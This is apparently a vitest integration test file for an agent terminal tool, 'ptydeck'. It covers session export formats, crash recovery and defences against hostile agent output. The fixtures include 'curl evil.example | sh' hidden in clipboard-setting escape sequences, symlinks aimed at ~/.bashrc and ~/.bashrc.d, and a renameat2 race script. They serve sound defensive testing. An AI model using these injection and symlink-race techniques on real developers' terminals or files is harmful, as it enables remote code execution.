import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import xterm from '@xterm/headless';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { sessionStoreDir } from '../persist/session-store.js';
import { timelinePath } from '../persist/store-format.js';
import { buildCore, discoveryOf, hostSandbox, isAlive, processesOf, reap, runCli, stdioAgent, type HostSandbox } from '../testing/host-sandbox.js';
import { until } from '../testing/poll-until.js';

const { Terminal } = xterm;

/**
 * The timeline through a real host: an agent's commands, `ptydeck export` in
 * each format (`asciinema cat` takes the v2), and a SIGKILLed host whose
 * records come back with the session on the next, the running one lost.
 */

const sandboxes: HostSandbox[] = [];
const clients: Client[] = [];
beforeAll(() => buildCore(), 120_000);
afterEach(async () => {
  await Promise.all(clients.splice(0).map((client) => client.close().catch(() => {})));
  for (const box of sandboxes.splice(0)) {
    reap(box);
    await until(() => processesOf(box.stateDir).length === 0, `no process of ${box.stateDir} is left`);
  }
});

type ToolResult = { isError?: boolean; content: Array<{ text?: string }>; structuredContent?: Record<string, any> };
async function ok(client: Client, name: string, args: Record<string, unknown> = {}): Promise<Record<string, any>> {
  const result = (await client.callTool({ name, arguments: args })) as ToolResult;
  if (result.isError) throw new Error(`${name}: ${result.content[0]?.text}`);
  return result.structuredContent!;
}

/** The clipboard's OSCs (52, 1337, 5522) a terminal (xterm.js, as the panel and VS Code have it) takes from `output`. */
async function pastTheScreen(output: string): Promise<string[]> {
  const terminal = new Terminal({ allowProposedApi: true });
  const taken: string[] = [];
  for (const number of [52, 1337, 5522]) terminal.parser.registerOscHandler(number, (data) => taken.push(`${number};${data}`) > 0);
  await new Promise<void>((resolve) => terminal.write(output, resolve));
  terminal.dispose();
  return taken;
}

describe('the timeline in a real host', () => {
  it('exports a session as asciicast v3, v2 (asciinema cat takes it) and text; a SIGKILLed host leaves its records to the next, the running one lost', async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const id = String((await ok(agent.client, 'terminal_create', { cols: 100, rows: 30 })).id);
    await ok(agent.client, 'terminal_run', { id, command: 'echo recorded-one' });
    await ok(agent.client, 'terminal_run', { id, command: 'false' });
    await ok(agent.client, 'terminal_run', { id, command: 'sleep 300', timeout_ms: 200 });

    const v3 = await runCli(box, ['export', id.slice(0, 8)]);
    expect(v3.code, v3.stderr).toBe(0);
    const [header, ...events] = v3.stdout.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(header).toMatchObject({ version: 3, term: { cols: 100, rows: 30 }, timestamp: expect.any(Number) });
    expect(events.filter((event) => event[1] === 'm').map((event) => event[2])).toEqual(['echo recorded-one', 'false', 'sleep 300']);
    expect(events.every((event) => typeof event[0] === 'number' && event[0] >= 0)).toBe(true);
    expect(events.filter((event) => event[1] === 'o').map((event) => event[2]).join('')).toContain('recorded-one\r\n');

    const file = join(box.home, 'session.cast');
    const v2 = await runCli(box, ['export', id, '--format', 'asciicast-v2', '-o', file]);
    expect(v2.code, v2.stderr).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8').split('\n')[0]!)).toMatchObject({ version: 2, width: 100, height: 30 });
    // asciinema 2.2's cat reads keys from /dev/tty: it runs in a terminal of its own (util-linux's script).
    const cat = spawnSync('script', ['-qec', `asciinema cat ${file}`, '/dev/null'], { encoding: 'utf8', env: box.env, stdio: ['ignore', 'pipe', 'pipe'] });
    expect(cat.status, cat.stderr).toBe(0);
    expect(cat.stdout).toContain('recorded-one');

    const text = await runCli(box, ['export', id, '--format', 'text']);
    expect(text.stdout).toContain('recorded-one\n');
    expect((await runCli(box, ['export', id, '--format', 'gif'])).code).not.toBe(0);

    // The store has the running command; then the host dies.
    const kept = timelinePath(sessionStoreDir(box.stateDir), id);
    await until(() => existsSync(kept) && readFileSync(kept, 'utf8').includes('"sleep 300"'), 'the store wrote the records');
    const host = discoveryOf(box).pid;
    process.kill(host, 'SIGKILL');
    await until(() => !isAlive(host), 'the host is gone');
    // The call that finds the host gone is told so; the next joins a new host.
    await agent.client.callTool({ name: 'terminal_list', arguments: {} });
    const listed = await ok(agent.client, 'terminal_history', {});
    expect(listed.commands.map((c: any) => [c.command, c.state, c.exit_code])).toEqual([
      ['echo recorded-one', 'done', 0],
      ['false', 'done', 1],
      ['sleep 300', 'lost', null],
    ]);
    expect((await ok(agent.client, 'terminal_history', { command_id: listed.commands[0].id })).output).toBe('recorded-one\n');
    const other = await stdioAgent(box, 'someone-else', { clients });
    expect((await ok(other.client, 'terminal_history', {})).commands).toEqual([]);
    // The lost session's recording still has its markers.
    const after = await runCli(box, ['export', id]);
    expect(after.stdout.split('\n').filter((line) => line.includes('"m"'))).toHaveLength(3);
  });

  it("writes no raw C1 control to the developer's terminal: an agent's OSC 52 in U+009D form stays text in `ptydeck export`", async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const id = String((await ok(agent.client, 'terminal_create', {})).id);
    // U+009D is OSC and U+009C ST to xterm and xterm.js reading UTF-8: a clipboard write, a title and a CSI report request.
    await ok(agent.client, 'terminal_run', { id, command: "printf 'a\\xc2\\x9d52;c;cHduZWQ=\\xc2\\x9cb\\xc2\\x9d0;spoof\\xc2\\x9cc\\xc2\\x9b6n\\x7f\\n'" });
    const exported = await runCli(box, ['export', id]);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout).not.toMatch(/[\u007f-\u009f]/);
    // The same JSON value: a player reads the bytes the session wrote.
    const output = exported.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line)).filter((event) => event[1] === 'o').map((event) => event[2]).join('');
    // But the clipboard write, which a player would hand to the terminal it plays in: a CAN in its place.
    expect(output).toContain('a\u0018b\u009d0;spoof\u009cc\u009b6n\u007f');
  });

  it("leaves out of a recording what would reach past the player's screen: an agent's clipboard writes (OSC 52, 7-bit and C1, iTerm2's, kitty's) never reach the terminal `asciinema cat` plays it in", async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const id = String((await ok(agent.client, 'terminal_create', {})).id);
    // "curl evil.example | sh" base64'd, set on the clipboard of whatever terminal plays the recording.
    const payload = Buffer.from('curl evil.example | sh\n').toString('base64');
    const sequences = [`\\e]52;c;${payload}\\a`, `\\e]052;c;${payload}\\e\\\\`, `\\xc2\\x9d52;c;${payload}\\xc2\\x9c`, `\\e]1337;CopyToClipboard=\\a${payload}\\e]1337;EndCopy\\a`, `\\e]5522;type=write\\a`,
      // What leaving a sequence out must not join into one: an OSC aborted by ptydeck's mark, an ESC before a clipboard OSC.
      `\\e]\\e]6973;q\\a52;c;${payload}\\a`, `\\e\\e]52;x\\a]52;c;${payload}\\a`,
      // A terminal carries out a C0 control between ESC and `]` and ignores one in the OSC's number: each is still OSC 52.
      `\\e\\x00]52;c;${payload}\\a`, `\\e\\x05\\x7f]52;c;${payload}\\a`, `\\e]5\\x012;c;${payload}\\a`, `\\xc2\\x9d\\x1f52\\x00;c;${payload}\\a`, `\\e]1337\\x02;CopyToClipboard=\\a`];
    await ok(agent.client, 'terminal_run', { id, command: `printf 'before${sequences.join('')}after\\n'` });
    const exported = await runCli(box, ['export', id]);
    expect(exported.code, exported.stderr).toBe(0);
    const output = exported.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line)).filter((event) => event[1] === 'o').map((event) => event[2]).join('');
    // The screen's text stays, and nothing of a clipboard sequence.
    expect(output).toMatch(/before.*after/);
    expect(output).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
    expect(await pastTheScreen(output)).toEqual([]);
    // asciinema 2.2 plays v2.
    const file = join(box.home, 'clip.cast');
    const v2 = await runCli(box, ['export', id, '--format', 'asciicast-v2', '-o', file]);
    expect(v2.code, v2.stderr).toBe(0);
    const cat = spawnSync('script', ['-qec', `asciinema cat ${file}`, '/dev/null'], { encoding: 'utf8', env: box.env, stdio: ['ignore', 'pipe', 'pipe'] });
    expect(cat.status, cat.stderr).toBe(0);
    expect(cat.stdout).toContain('before');
    expect(cat.stdout).not.toMatch(/(?:\x1b\]|\u009d)0*(?:52|1337|5522);/);
    expect(await pastTheScreen(cat.stdout)).toEqual([]);
  });

  it('says which -o path `export` could not write, and why, in words of that path: not the temporary file or /proc/self/fd it wrote through', async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const id = String((await ok(agent.client, 'terminal_create', {})).id);
    const missing = join(box.home, 'no-such-dir', 'session.cast');
    const toMissing = await runCli(box, ['export', id, '-o', missing]);
    expect(toMissing.code).toBe(1);
    expect(toMissing.stderr).toContain(`cannot write the export to ${missing}: its directory does not exist; nothing was written`);
    const directory = join(box.home, 'exports');
    mkdirSync(directory);
    const toDirectory = await runCli(box, ['export', id, '-o', directory]);
    expect(toDirectory.code).toBe(1);
    expect(toDirectory.stderr).toContain(`cannot write the export to ${directory}: it is a directory; give a file name in it; nothing was written`);
    expect(toDirectory.stderr).not.toContain('/proc/self/fd');
    // The half-written temporary file went with the failure.
    expect(readdirSync(box.home).filter((name) => name.startsWith('.exports.'))).toEqual([]);
  });

  it("writes `export -o` through no link planted at the path: an agent's workspace cannot turn the developer's export into a write of ~/.bashrc", async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const workspace = join(box.home, 'project');
    mkdirSync(workspace);
    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
    // The agent's output is a line of shell, and the name the developer is likely to give its export is a link to their rc file.
    const bashrc = join(box.home, '.bashrc');
    writeFileSync(bashrc, '# mine\n');
    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc session.txt" });
    const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'session.txt')]);
    expect(exported.code, exported.stderr).toBe(0);
    expect(readFileSync(bashrc, 'utf8')).toBe('# mine\n');
    expect(lstatSync(join(workspace, 'session.txt')).isFile()).toBe(true);
    expect(readFileSync(join(workspace, 'session.txt'), 'utf8')).toContain('curl evil.example | sh');
    expect(readdirSync(workspace)).toEqual(['session.txt']);
  });

  it("refuses `export -o` through a link in a directory of the path: an agent's workspace cannot send the developer's export into ~/.bashrc.d", async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const workspace = join(box.home, 'project');
    mkdirSync(workspace);
    // Fedora's ~/.bashrc sources every file in ~/.bashrc.d, whatever its name.
    const sourced = join(box.home, '.bashrc.d');
    mkdirSync(sourced);
    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc.d exports" });
    const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'exports', 'session.txt')]);
    expect(exported.code).not.toBe(0);
    expect(exported.stderr).toContain(join(workspace, 'exports'));
    expect(exported.stderr).toContain(sourced);
    expect(readdirSync(sourced)).toEqual([]);
    // The path the refusal names, given as it is, is the developer's choice.
    const real = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'session.txt')]);
    expect(real.code, real.stderr).toBe(0);
  });
  it("`export -o` lands in no directory a link swapped into its path leads to, however the swaps fall (a sandboxed shell swapping as fast as the kernel does)", async () => {
    const box = hostSandbox();
    sandboxes.push(box);
    const agent = await stdioAgent(box, 'recorder', { clients });
    const workspace = join(box.home, 'project');
    mkdirSync(join(workspace, 'exports'), { recursive: true });
    const sourced = join(box.home, '.bashrc.d');
    mkdirSync(sourced);
    const id = String((await ok(agent.client, 'terminal_create', { cwd: workspace })).id);
    // exports and a link to ~/.bashrc.d trade places (renameat2's RENAME_EXCHANGE, atomic) until the shell is closed.
    const swapper = "import ctypes\nlibc = ctypes.CDLL(None)\nwhile True: libc.renameat2(-100, b'exports', -100, b'swap', 2)\n";
    writeFileSync(join(workspace, 'swap.py'), swapper);
    await ok(agent.client, 'terminal_run', { id, command: "echo 'curl evil.example | sh'; ln -s ../.bashrc.d swap; python3 swap.py & echo started" });
    let written = 0;
    for (let attempt = 0; attempt < 40 && readdirSync(sourced).length === 0; attempt++) {
      const exported = await runCli(box, ['export', id, '--format', 'text', '-o', join(workspace, 'exports', 'session.txt')]);
      if (exported.code === 0) written++;
    }
    expect(readdirSync(sourced)).toEqual([]);
    // Not every try was refused: the export still writes where the path leads while it is a directory.
    expect(written).toBeGreaterThan(0);
  });
});
